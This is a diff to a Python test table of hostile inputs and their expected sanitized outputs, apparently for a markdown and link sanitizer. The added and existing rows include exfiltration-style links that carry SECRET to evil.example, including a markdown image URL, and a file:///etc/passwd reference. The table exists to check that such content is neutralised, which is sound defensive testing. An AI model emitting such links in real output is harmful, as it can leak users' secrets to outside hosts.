@@ -67,12 +67,15 @@ HOSTILE = [
     ("```python\nrun()\n```", "'python run() '"),
     ("~~~\n`x` **bold** __init__ ~~no~~", "'x' *bold* _init_ ~no~"),
     ("| a | b |", "/ a / b /"),
+    ("x === y +++ z", "x = y + z"),
     # links, which could carry something away
     ("![x](https://evil.example/p?q=SECRET)", "!(x)(evil.example)"),
     ("see https://me:pw@evil.example:8443/a/b?c=d.", "see evil.example:8443."),
     ("<HTTPS://EVIL.EXAMPLE/x>", "‹EVIL.EXAMPLE›"),
     ("https:\\\\evil.example\\x y", "evil.example y"),
-    ("evil.example/?q=SECRET evil.example?q=1", "evil.example q=SECRET evil.example q=1"),
+    ("evil.example/?q=SECRET", "evil.example q=SECRET"),
+    ("evil.example?q=SECRET", "evil.example q=SECRET"),
+    ("//evil.example/SECRET", "/evil.example SECRET"),
     ("-https://evil.example/x file:///etc/passwd", "-evil.example etc"),
     # what nobody sees
     (f"Hi{_TAGS}", "Hi"),
